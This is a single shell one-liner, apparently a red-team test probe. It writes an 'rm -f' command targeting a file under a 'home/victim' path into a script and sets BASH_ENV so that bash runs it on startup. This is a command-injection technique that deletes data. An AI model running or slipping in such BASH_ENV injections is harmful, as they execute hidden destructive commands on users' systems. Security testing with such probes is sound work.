printf 'rm -f /srv/rt/s/d1/home/victim/keep-D29\n' > rt-be.sh; BASH_ENV=./rt-be.sh bash -c true
